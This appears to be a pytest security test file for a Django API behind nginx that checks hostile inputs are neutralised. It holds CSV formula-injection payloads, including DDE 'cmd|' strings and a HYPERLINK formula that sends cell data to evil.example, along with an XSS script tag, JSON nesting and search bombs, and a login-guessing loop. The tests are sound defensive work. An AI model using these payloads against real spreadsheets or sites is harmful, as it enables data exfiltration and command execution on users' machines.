"""What a hostile client sends, through nginx in front of gunicorn on PostgreSQL (issue 13's
findings 5 to 10): formulas in CSV, markup in the feed, search and nesting bombs, bodies over
the limits, invalid true/false filters, guessing an editor's password, a reload over edits."""

import csv
import io
import json
import re
import subprocess
import xml.etree.ElementTree as ET
from urllib.parse import urlencode

import pytest

from .http import fetch

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Pharos")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
MARKUP = "<script>alert(1)</script> <b>Bold</b> A &ndash; B"
ATOM = "{http://www.w3.org/2005/Atom}"
PASSWORD = "a long editor passphrase 42"
EDITOR = (
    "from io import StringIO; from django.core.management import call_command; "
    "from django.contrib.auth import get_user_model; "
    "from rest_framework.authtoken.models import Token; "
    f"call_command('createeditor', 'hostile', password='{PASSWORD}', stdout=StringIO()); "
    "print(Token.objects.create(user=get_user_model().objects.get(username='hostile')).key)"
)  # the username is the one log_in tries
HOSTILE_FACTORIES = (
    "import json; from tests.builders import make_factory; "
    "[make_factory(slug=f'hostile-{n}', name=name, site={'city': name}) "
    "for n, name in enumerate(json.loads(%r))]"
)


@pytest.fixture(scope="module")
def editor_token(nginx_server):
    return nginx_server.manage("shell", "-c", EDITOR).stdout.split()[-1]


@pytest.fixture(scope="module")
def hostile_factories(nginx_server):
    """Factories named (and with host cities named) by a formula payload or markup."""
    names = [*FORMULAS, MARKUP]
    nginx_server.manage("shell", "-c", HOSTILE_FACTORIES % json.dumps(names))
    return names


def csv_rows(url):
    status, headers, text = fetch(url)
    assert (status, headers["content-type"].split(";")[0]) == (200, "text/csv")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_formulas_in_names_and_cities_are_text_in_every_csv(nginx_server, hostile_factories):
    listed = {row["name"] for row in csv_rows(nginx_server.url + "/api/v1/factories/?format=csv")}
    for n, payload in enumerate(FORMULAS):
        assert "'" + payload in listed
        assert payload not in listed
        url = f"{nginx_server.url}/api/v1/factories/hostile-{n}/?format=csv"
        (row,) = csv_rows(url)
        assert (row["name"], row["host_site.city"]) == ("'" + payload, "'" + payload)


def test_markup_in_a_name_is_escaped_text_in_the_feed(nginx_server, hostile_factories):
    status, _, text = fetch(nginx_server.url + "/changes/feed/")
    assert status == 200
    summaries = [
        entry.find(f"{ATOM}summary").text
        for entry in ET.fromstring(text.encode()).findall(f"{ATOM}entry")
    ]
    assert any("&lt;b&gt;Bold&lt;/b&gt; A &amp;ndash; B" in summary for summary in summaries)
    assert not any("<b>" in summary or "<script>" in summary for summary in summaries)


@pytest.mark.parametrize("words", [500, 1300])
def test_a_search_bomb_is_a_400_in_json(nginx_server, words):
    query = urlencode({"search": " ".join(["w"] * words)})
    status, headers, text = fetch(f"{nginx_server.url}/api/v1/citations/?{query}")
    assert (status, headers["content-type"]) == (400, "application/json")
    assert "A search has at most 10 words" in json.loads(text)["search"][0]


def test_an_address_too_long_for_nginx_is_a_414_in_json(nginx_server):
    query = urlencode({"search": " ".join(f"w{i}" for i in range(5000))})
    status, headers, text = fetch(f"{nginx_server.url}/api/v1/citations/?{query}")
    assert (status, headers["content-type"]) == (414, "application/json")
    assert "longer than the 8 KB" in json.loads(text)["detail"]


def test_a_nesting_bomb_from_an_editor_is_a_400_in_json(nginx_server, editor_token):
    url = nginx_server.url + "/api/v1/factories/pharos/"
    auth = {"Authorization": f"Token {editor_token}"}
    etag = fetch(url, headers=auth)[1]["etag"]
    body = '{"summary": "x", "evidence": ' + "[" * 100_000 + "]" * 100_000 + "}"
    headers = {**auth, "If-Match": etag, "Content-Type": "application/json"}
    status, response_headers, text = fetch(url, method="PATCH", headers=headers, body=body)
    assert (status, response_headers["content-type"]) == (400, "application/json")
    assert "nested deeper than" in json.loads(text)["detail"]


@pytest.mark.parametrize(
    ("megabytes", "limit"), [(3, "2621440 bytes"), (5, "4 MB")], ids=["django", "nginx"]
)
def test_a_body_over_the_limits_is_a_413_in_json(nginx_server, editor_token, megabytes, limit):
    body = json.dumps({"summary": "x" * (megabytes * 1024 * 1024)})
    headers = {"Authorization": f"Token {editor_token}", "Content-Type": "application/json"}
    url = nginx_server.url + "/api/v1/factories/pharos/"
    status, response_headers, text = fetch(url, method="PATCH", headers=headers, body=body)
    assert (status, response_headers["content-type"]) == (413, "application/json")
    assert limit in json.loads(text)["detail"]


@pytest.mark.parametrize(
    "path", ["/api/v1/factories/", "/api/v1/supercomputers/", "/api/v1/countries/", "/factories/"]
)
def test_an_invalid_true_false_filter_is_a_400_naming_the_field(nginx_server, path):
    field = {
        "/api/v1/supercomputers/": "is_ai_optimised",
        "/api/v1/countries/": "in_consortium",
    }.get(path, "experimental_platform")
    status, headers, text = fetch(f"{nginx_server.url}{path}?{field}=maybe")
    assert status == 400
    assert "“maybe” is not a true/false value" in text
    if path.startswith("/api/"):
        assert headers["content-type"] == "application/json"
        assert list(json.loads(text)) == [field]
    assert fetch(f"{nginx_server.url}{path}?{field}=true")[0] == 200


def log_in(base_url, address, password):
    """One admin login attempt from `address`, with the CSRF token a browser would send."""
    source = (address, 0)
    _, headers, page = fetch(base_url + "/admin/login/", source_address=source)
    cookie = re.search(r"csrftoken=([^;]+)", headers["set-cookie"]).group(1)
    form = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    body = urlencode(
        {
            "username": "hostile",
            "password": password,
            "csrfmiddlewaretoken": form,
            "next": "/admin/",
        }
    )
    headers = {"Cookie": f"csrftoken={cookie}", "Content-Type": "application/x-www-form-urlencoded"}
    status, _, _ = fetch(base_url + "/admin/login/", "POST", headers, body, source_address=source)
    return status


def test_guessing_from_one_address_does_not_lock_the_editor_out_from_another(scaled_out):
    """Through nginx, with the limit counted in Redis (without it each worker counts alone)."""
    scaled_out.manage("shell", "-c", EDITOR)
    # The limit counts per minute (ADMIN_LOGIN_RATE 10/m): however a minute's end falls, 21
    # guesses reach it at least once.
    guesses = []
    while 429 not in guesses:
        assert len(guesses) < 21, guesses
        guesses.append(log_in(scaled_out.url, "127.0.0.5", "wrong"))
    assert set(guesses) == {200, 429}
    # Behind nginx every client reaches gunicorn from nginx's address: the editor, elsewhere,
    # is not locked out.
    assert log_in(scaled_out.url, "127.0.0.6", PASSWORD) == 302


def test_reloading_the_fixtures_over_edits_refuses(nginx_server, editor_token, hostile_factories):
    with pytest.raises(subprocess.CalledProcessError) as refused:
        nginx_server.manage("load_registry", "--force")
    assert "Editors have changed the registry" in refused.value.stderr
    assert "--discard-edits" in refused.value.stderr
    status, _, text = fetch(nginx_server.url + "/api/v1/factories/hostile-0/")
    assert (status, json.loads(text)["name"]) == (200, FORMULAS[0])
